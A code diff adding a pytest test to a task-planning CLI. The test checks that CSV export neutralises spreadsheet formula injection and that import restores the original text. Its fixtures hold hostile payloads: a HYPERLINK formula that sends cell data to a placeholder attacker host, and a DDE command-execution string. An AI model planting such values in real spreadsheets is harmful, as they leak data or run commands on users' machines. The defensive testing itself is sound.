@@ -2,11 +2,13 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import shutil
 from pathlib import Path
 
 import pytest
+from leafwise.commands.adoption.csv_format import as_written, formula_safe
 from testkit import run_cli, run_cli_in_process
 
 SOURCES = [("taskmaster", "taskmaster"), ("backlog", "backlog"), ("beads", "beads"),
@@ -243,3 +245,27 @@ def test_an_export_with_values_the_plan_cannot_hold_is_refused_before_any_write(
     assert kit.imported(plan_root) == {}
     result = cli(plan_root, "import", "json", str(path), "--partial")["result"]
     assert result["added"] == 1 and [s["key"] for s in result["skips"]] == ["X-2", "X-3"]
+
+
+def test_export_csv_defuses_formulas_and_import_takes_the_quote_off(plan_root: Path, kit, tmp_path: Path) -> None:
+    link = '=HYPERLINK("http://evil.example/?"&B3,"click")'
+    titles = [link, "'=quoted by its writer", "-2+3", "'plain quote", "@SUM(1)"]
+    ids = [cli(plan_root, "add", title)["result"]["id"] for title in titles]
+    cli(plan_root, "edit", ids[0], "--set", "description=+cmd|' /C calc'!A0")
+    cli(plan_root, "edit", ids[1], "--set", "description=- a list item")
+    path = tmp_path / "plan.csv"
+    cli(plan_root, "export", "csv", str(path))
+    rows = {r["id"]: r for r in csv.DictReader(path.open(encoding="utf-8"))}
+    assert rows[ids[0]]["title"] == "'" + link and rows[ids[0]]["description"] == "'+cmd|' /C calc'!A0"
+    assert [rows[i]["title"] for i in ids[1:]] == ["''=quoted by its writer", "'-2+3", "'plain quote", "'@SUM(1)"]
+    assert rows[ids[1]]["description"] == "'- a list item"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows.values() for cell in r.values())
+    copy = tmp_path / "copy"
+    copy.mkdir()
+    cli(copy, "init", "--name", "Copy", "--prefix", "CP")
+    cli(copy, "import", "csv", str(path))
+    back = kit.imported(copy)
+    assert [back[i]["title"] for i in ids] == titles
+    assert back[ids[0]]["description"] == "+cmd|' /C calc'!A0" and back[ids[1]]["description"] == "- a list item"
+    for cell in ("\tcmd", "\rcmd", "'\tcmd"):  # a tab or CR no edit keeps at a title's start
+        assert formula_safe(cell) == "'" + cell and as_written(formula_safe(cell)) == cell
